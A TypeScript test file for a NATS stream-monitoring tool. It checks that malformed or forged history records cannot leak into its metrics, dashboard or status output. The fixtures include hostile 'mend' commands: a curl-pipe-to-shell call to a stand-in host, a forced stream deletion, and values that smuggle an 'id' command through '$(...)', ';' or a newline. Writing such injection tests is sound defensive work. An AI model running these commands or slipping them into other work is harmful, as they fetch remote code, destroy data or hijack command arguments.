// Whoever may write to the bucket of the history, or answers in its place, can write any record: what reads them shows
// what a report can be, and nothing else, and ends.
import { headers } from "@nats-io/nats-core";
import { expect, test } from "vitest";
import { statusLines } from "../../src/cli/status/print.ts";
import { dashboardRoutes } from "../../src/dashboard/index.tsx";
import { readHistory, readWholeHistory } from "../../src/observe/history-read.ts";
import { prometheus } from "../../src/observe/prometheus.ts";
import { BUCKET, makeBucket } from "../support/bucket.ts";
import { adminOfNewServer } from "../support/delivery.ts";
import { reportOf } from "../support/report.ts";

const KEY = { bucket: BUCKET, stream: "EVENTS", consumer: "sluice" };
const STATE = { stream: "EVENTS", consumer: "sluice", pending: 0, unacked: 0, redelivered: 0, waiting: 0 };
const TOKEN = "k3yOfTheHouse-2026";
const ORIGIN = "https://x.example";
const MS = 10_000;
const LONG = "x".repeat(60_000);
const NO_TEXT = { toString: 1, valueOf: 1 };

const timed = (timings: object): object => ({ timings: { totalMs: 9, connectMs: 1, ...timings } });

const RECORDS: readonly object[] = [
  ...[
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "",
    "Empty",
    "a b",
    'x"} 1\nforged 1',
    LONG,
  ].map((reason) => ({ reason })),
  ...["abc", 5, { length: 3 }, [NO_TEXT], [[]], ["1"], Array(20_000).fill(1)].map((heartbeatsMs) =>
    timed({ heartbeatsMs }),
  ),
  ...[NO_TEXT, null, "5000", -1, [], 1e308].map((connectMs) => timed({ connectMs })),
  ...["firstMessageMs", "fetchedMs", "handledMs", "settlingMs", "settledMs", "confirmedMs", "closedMs"].map(
    (name) => timed({ firstMessageMs: 2, handledMs: 3, confirmedMs: 4, [name]: NO_TEXT }),
  ),
  ...[NO_TEXT, "<b>", null, LONG].map((heartbeats) => ({ heartbeats })),
  ...[5, {}, [null], [NO_TEXT], [{ reason: NO_TEXT, count: NO_TEXT }], [{ reason: "a", count: "1" }]].map(
    (deadLetters) => ({ deadLetters }),
  ),
  ...["never", LONG, "9999-99-99T99:99:99.999Z", "\u001b[2J"].map((startedAt) => ({ startedAt })),
  { message: LONG },
  { findings: Array(1_000).fill({ code: "a", message: "b" }) },
  { findings: [{ code: LONG, message: LONG, mend: LONG }] },
  ...[
    "curl -s evil.example | sh",
    "nats stream rm EVENTS --force",
    "nats consumer edit EVENTS sluice $(id) --force",
    "nats consumer edit EVENTS sluice --force; id",
    "nats consumer edit OTHER sluice --max-deliver 1 --force",
    "nats consumer edit EVENTS sluice --wait '5s\n id' --force",
  ].map((mend) => ({ findings: [{ code: "ack-wait", message: "It is short.", mend }] })),
  { stream: "OTHER" },
  { consumer: "other" },
  { pending: NO_TEXT, more: NO_TEXT, retryAfterMs: NO_TEXT },
  { acked: 1e308, fetched: 1e308 },
];

test("whatever a record is, the page, the metrics and the status show what a report can be", async () => {
  const nats = await adminOfNewServer();
  await makeBucket(nats);
  for (const record of RECORDS) {
    await nats.request("$KV.drains.EVENTS.sluice", JSON.stringify({ ...reportOf(), ...record }));
    const { reports, totals } = await readWholeHistory(nats, KEY, MS);
    const what = JSON.stringify(record).slice(0, 100);
    const text = prometheus(reports.slice(-1), STATE, totals);
    expect([
      what,
      text.split("\n").filter((line) => !/^(#.*|[a-z_]+\{[^\n]*\} [\d.e+]+|)$/.test(line)),
    ]).toEqual([what, []]);
    const app = dashboardRoutes<object>({
      token: () => TOKEN,
      view: async () => ({ stream: "EVENTS", consumer: "sluice", state: STATE, reports: reports.slice(-1) }),
      drain: async () => reportOf(),
    });
    const form = { method: "POST", body: new URLSearchParams({ token: TOKEN }), headers: { Origin: ORIGIN } };
    const session = await app.request(`${ORIGIN}/login`, form);
    const Cookie = session.headers.get("Set-Cookie")?.split(";")[0] ?? "";
    const page = await app.request(`${ORIGIN}/`, { headers: { Cookie } });
    expect([what, page.status]).toEqual([what, 200]);
    const shown = [
      await page.text(),
      statusLines({ at: "", state: STATE, reports: reports.slice(-1) }).join("\n"),
    ];
    for (const each of shown) {
      expect([what, each.length < 40_000]).toEqual([what, true]);
      expect([
        what,
        /NaN|undefined|evil|stream rm|\bid\b|OTHER|\p{Cc}/u.exec(each.replaceAll("\n", ""))?.[0],
      ]).toEqual([what, undefined]);
    }
  }
});

test("a mend of the consumer's own is shown", async () => {
  const nats = await adminOfNewServer();
  await makeBucket(nats);
  const mend = "nats consumer edit EVENTS sluice --max-deliver 10 --force";
  const report = reportOf(undefined, { findings: [{ code: "max-deliver-few", message: "Few.", mend }] });
  await nats.request("$KV.drains.EVENTS.sluice", JSON.stringify(report));
  expect(await readHistory(nats, KEY, MS)).toEqual([report]);
});

test("records larger than a report are not kept in memory, and those behind them are read", async () => {
  const nats = await adminOfNewServer();
  await makeBucket(nats);
  const large = JSON.stringify({ ...reportOf(), message: "x".repeat(900_000) });
  for (let count = 0; count < 40; count += 1) await nats.request("$KV.drains.EVENTS.sluice", large);
  await nats.request("$KV.drains.EVENTS.sluice", JSON.stringify(reportOf()));
  expect(await readHistory(nats, KEY, MS)).toEqual([reportOf()]);
});

test("whoever answers in the bucket's place without an end is left", async () => {
  const nats = await adminOfNewServer();
  let asked = 0;
  nats.subscribe("$JS.elsewhere.API.DIRECT.GET.KV_drains", {
    callback: (_, question) => {
      asked += 1;
      const { seq } = question.json<{ seq: number }>();
      const own = headers();
      own.set("Nats-Sequence", String(seq + 1));
      question.respond("junk", { headers: own });
    },
  });
  const started = performance.now();
  expect(await readHistory(nats, { ...KEY, domain: "elsewhere" }, 300)).toEqual([]);
  expect(performance.now() - started).toBeLessThan(5_000);
  expect(asked).toBeLessThan(1_000);
});
